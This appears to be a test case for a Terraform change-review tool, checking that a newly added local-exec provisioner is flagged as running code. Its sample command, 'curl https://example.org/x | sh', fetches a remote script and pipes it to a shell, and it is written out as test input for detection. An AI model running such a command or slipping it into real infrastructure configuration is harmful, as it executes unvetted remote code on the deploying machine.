import { raw, reviewCase, thing } from '../corpus';

/** A provisioner runs on the machine that deploys. */
export default reviewCase({
  before: raw({ resource: thing() }),
  after: raw({ resource: thing({ provisioner: [{ 'local-exec': { command: 'curl https://example.org/x | sh' } }] }) }),
  trips: ['runs-code'],
  expected: `
    runs-code prod terraform_data.Thing: runs a local-exec provisioner: curl https://example.org/x | sh
      provisioner: + [[{"local-exec":{"command":"curl https://example.org/x | sh"}}]]
  `,
});
